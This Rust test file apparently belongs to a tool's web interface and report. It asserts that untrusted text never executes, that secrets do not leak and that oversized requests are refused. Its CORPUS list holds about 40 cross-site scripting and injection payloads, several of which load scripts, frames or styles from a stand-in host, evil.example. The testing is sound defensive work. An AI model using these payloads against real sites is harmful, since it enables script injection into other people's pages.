//! What strangers may write, in every place where the page and the report show what somebody wrote.

use super::Page;
use crate::support::browser::Browser;
use crate::support::server::{Server, json};
use crate::support::{Project, Ran};
use serde_json::{Value, json};
use std::fmt::Write as _;

/// Texts that would do something if they were taken for anything but text.
const CORPUS: [&str; 40] = [
    "<script>window.stung = 1</script>",
    "<script src=http://evil.example/x.js></script>",
    "</script><script>window.stung = 1</script>",
    "<img src=x onerror='window.stung = 1'>",
    "<img src=http://evil.example/x.png>",
    "<svg onload='window.stung = 1'>",
    "<svg><script>window.stung = 1</script></svg>",
    "<iframe srcdoc='<script>parent.stung = 1</script>'></iframe>",
    "<iframe src=http://evil.example></iframe>",
    "<body onload='window.stung = 1'>",
    "<input autofocus onfocus='window.stung = 1'>",
    "<details open ontoggle='window.stung = 1'>",
    "<video><source onerror='window.stung = 1'></video>",
    "<a href='javascript:window.stung = 1'>x</a>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<form action=http://evil.example><button>x</button></form>",
    "<object data=http://evil.example></object>",
    "<template><script>window.stung = 1</script></template>",
    "<math><mtext><img src=x onerror='window.stung = 1'></mtext></math>",
    "</title><script>window.stung = 1</script>",
    "</style><script>window.stung = 1</script>",
    "</textarea><script>window.stung = 1</script>",
    "</main></body><script>window.stung = 1</script>",
    "<!-- --><script>window.stung = 1</script><!--",
    "]]><script>window.stung = 1</script>",
    "\"><script>window.stung = 1</script>",
    "' onmouseover='window.stung = 1",
    "&lt;script&gt;window.stung = 1&lt;/script&gt;",
    "\\u003cscript>window.stung = 1\\u003c/script>",
    "%3Cscript%3Ewindow.stung = 1%3C/script%3E",
    "${window.stung = 1}`${window.stung = 1}`",
    "{{window.stung = 1}}<%= window.stung = 1 %>",
    "__proto__",
    "constructor",
    "javascript:window.stung = 1",
    "a\u{2028}b\u{2029}c\u{202e}d\u{200b}e",
    "#/run/x?op=1&t=0#<script>window.stung = 1</script>",
];

/// A script that puts every text into every place of a run.
const SCRIPT: &str = r#"
    let corpus = json(read_text("corpus.json"));
    let topic = param("topic", "tea", "what about");
    let o = optimizer();
    for evil in corpus {
        let b = builder(evil);
        b.add_operation("communicate", #{ name: evil, instruction: evil });
        b.add_operation(|inputs| throw evil, #{ name: evil + " fails" });
        session(branch("live")).flow(b, #{ allow_failures: true });
        log.warn(evil);
        try { o.record_execution(evil, evil, #{ success_rate: 1.0 }); } catch (refused) { log.info(refused.message); }
        try { o.save_pattern_failure(evil, evil, #{ kind: evil, message: evil }); } catch (refused) { log.info(refused.message); }
    }
    corpus
"#;

/// Escapes everything in a part of an address.
fn escaped(text: &str) -> String {
    text.bytes().fold(String::new(), |mut escaped, byte| {
        let _ = write!(escaped, "%{byte:02X}");
        escaped
    })
}

/// A project with a run that holds the corpus, twice, and what people have noted about it.
fn project() -> (Project, Server) {
    let project = Project::new();
    // The reply of a model, and the name under which it says it answers.
    let server = Server::start(|n, _, _| {
        let evil = CORPUS[n % CORPUS.len()];
        let reply = json!({
            "model": evil,
            "choices": [{ "message": { "content": evil }, "finish_reason": "stop" }],
        });
        json(200, reply.to_string())
    });
    let toml = format!(
        "[models.live]\nprovider = \"openai\"\nmodel = {:?}\nbase_url = \"{}\"\n",
        CORPUS[3], server.url
    );
    project.file("kaizen.toml", &toml);
    project.file("corpus.json", &json!(&CORPUS[..]).to_string());

    let script = "<img src=x onerror='window.stung = 1'>.rhai";
    project.file(script, SCRIPT);
    for topic in CORPUS.iter().take(2) {
        let topic = format!("topic={topic}");
        let ran = project.kaizen(&["run", script, "-q", "-p", &topic]);
        assert!(matches!(ran.code, Some(0 | 2)), "{}", ran.stderr);
    }
    for evil in CORPUS {
        project.kaizen(&["note", "@", evil]);
        let label: String = evil.split_whitespace().collect();
        project.kaizen(&["label", "@", &label]);
    }
    (project, server)
}

/// What stands in a document that nobody but strangers can have put there.
const FOREIGN: &str = "return [window.stung ?? null, \
    document.querySelectorAll('main :is(img, script, iframe, object, link, style, base, meta, video)').length, \
    [...document.querySelectorAll('main :is([href], [src])')].map(one => one.getAttribute('href') ?? one.src)\
        .filter(address => !/^(#|[/]words$|$)/.test(address)).length]";

#[test]
fn no_text_of_the_corpus_becomes_more_than_text_in_page_and_report_and_no_request_leaves() {
    let proxy = Server::start(|_, _, _| json(200, ""));
    let Some(browser) = Browser::through(Some(&proxy.url)) else { return };
    let (project, _server) = project();
    let page = Page::of(&project);
    let runs = page.data("/api/runs");
    let run = runs["rows"][0]["id"].as_str().unwrap();
    let before = runs["rows"][1]["id"].as_str().unwrap();

    let mut places: Vec<String> = vec![
        "/runs".to_owned(),
        format!("/run/{run}"),
        format!("/run/{run}?op=0"),
        format!("/run/{run}?op=1"),
        format!("/run/{run}?view=graph"),
        format!("/run/{run}?view=log"),
        format!("/run/{run}?view=result"),
        format!("/compare/{before}/{run}?all=1"),
        "/learning".to_owned(),
        "/failures".to_owned(),
        "/cost?by=model".to_owned(),
    ];
    for evil in CORPUS {
        places.push(format!("/learning/{}", escaped(evil)));
        places.push(format!("/runs?q={}", escaped(evil)));
    }

    for place in &places {
        page.visit(&browser, place);
        assert_eq!(browser.run(FOREIGN), json!([null, 0, 0]), "{place}");
    }

    let file = project.path().join("report.html");
    let made = project.kaizen(&["report", run, before, "-o", file.to_str().unwrap()]);
    assert_eq!(made.code, Some(0), "{}", made.stderr);
    browser.open(&format!("file://{}", file.display()));
    browser.ready("report");
    let seen = browser.run(
        "return [window.stung ?? null, document.querySelectorAll('img, iframe, object, link, base, video').length, \
         performance.getEntriesByType('resource').length]",
    );
    assert_eq!(seen, json!([null, 0, 0]));

    // The browser asks its makers for things of its own, and that of Debian for its first page; nothing else may have asked.
    let own = ["start.duckduckgo.com", "google.com", "googleapis.com", "gvt1.com", "gstatic.com"];
    let heads = proxy.heads();
    let asked = heads.iter().filter_map(|head| head.lines().next());
    let foreign: Vec<&str> =
        asked.filter(|line| !own.iter().any(|own| line.contains(own))).collect();
    assert_eq!(foreign, [""; 0]);
}

#[test]
fn no_answer_holds_a_secret() {
    let canary = "canary-4711-0815-secret";
    let project = Project::new();
    project.file(
        "s.rhai",
        r#"let key = env("MY_API_KEY");
           let token = param("my_token", "", "another secret");
           let b = builder("flow " + key);
           b.add_operation("communicate", #{ name: "op " + key, instruction: "say " + key });
           b.add_operation(|inputs| throw "no " + key, #{ name: "fails" });
           session(branch("demo/echo")).flow(b, #{ allow_failures: true });
           log.warn(key);
           optimizer().record_execution("review", "direct", #{ success_rate: 1.0 });
           optimizer().save_pattern_failure("review", "direct", #{ kind: "own", message: "no " + key });
           key"#,
    );
    for _ in 0..2 {
        let mut command = project.command(&["run", "s.rhai", "-q", "--allow-env=MY_API_KEY"]);
        let ran = Ran::from(
            command
                .arg("-p")
                .arg(format!("my_token={canary}"))
                .env("MY_API_KEY", canary)
                .output()
                .unwrap(),
        );
        assert!(!ran.stderr.contains("error[K"), "{}", ran.stderr);
    }

    let page = Page::of(&project);
    let runs = page.data("/api/runs");
    let [b, a] = [0, 1].map(|at| runs["rows"][at]["id"].as_str().unwrap().to_owned());
    let mut paths: Vec<String> =
        ["/", "/words", "/api/hello", "/api/runs", "/api/learning", "/api/failures", "/api/cost"]
            .map(str::to_owned)
            .to_vec();
    for rest in ["", "/rows", "/graph", "/log", "/op/0", "/op/1"] {
        paths.push(format!("/api/run/{a}{rest}"));
    }
    paths.push(format!("/api/compare/{a}/{b}"));
    paths.push(format!("/api/compare/{a}:0/{b}:0"));
    for seq in 0..20 {
        for field in ["prompt", "reply", "value", "failure"] {
            paths.push(format!("/api/run/{a}/text/{seq}/{field}"));
        }
    }
    for task in page.data("/api/learning")["tasks"].as_array().unwrap() {
        paths.push(format!("/api/learning/{}", escaped(task["task"].as_str().unwrap())));
    }

    let mut told = 0;
    for path in &paths {
        let reply = page.get(path);
        told += usize::from(reply.status == 200);
        assert!(!reply.body.contains("4711-0815"), "{path}: {}", reply.body);
    }
    assert!(told > 15, "{told} of {}", paths.len());
    let report = page.post("/api/report", &json!({ "run": a }));
    assert_eq!((report.status, report.body.contains("4711-0815")), (200, false));
}

#[test]
fn a_body_of_100_megabytes_is_refused_before_it_is_read() {
    let project = Project::new();
    project.file("s.rhai", "1").kaizen(&["run", "s.rhai", "-q"]);
    let page = Page::of(&project);
    let headers = [page.own(), vec!["content-type: application/json".to_owned()]].concat();
    let head = headers.join("\r\n");
    let request = format!(
        "POST /api/note HTTP/1.1\r\n{head}\r\ncontent-length: 100000000\r\nconnection: close\r\n\r\n"
    );
    // Not one byte of the body is sent.
    let reply = page.raw(request.as_bytes());
    assert_eq!(reply.status, 413, "{reply:?}");
    assert_eq!(page.get("/api/hello").status, 200);
}

#[test]
fn what_is_recorded_is_heard_by_the_page() {
    let Some(browser) = Browser::start() else { return };
    let project = Project::new();
    project.file(
        "s.rhai",
        "optimizer().record_execution(`review`, `direct`, #{ success_rate: 1.0 }); 1",
    );
    project.kaizen(&["run", "s.rhai", "-q"]);
    let page = Page::of(&project);
    page.visit(&browser, "/learning");
    browser.wait("document.querySelector('main').textContent.includes('n=1')");
    project.kaizen(&["run", "s.rhai", "-q"]);
    browser.wait("document.querySelector('main').textContent.includes('n=2')");
    let address: Value = browser.run("return location.hash");
    assert_eq!(address, json!("#/learning"));
}
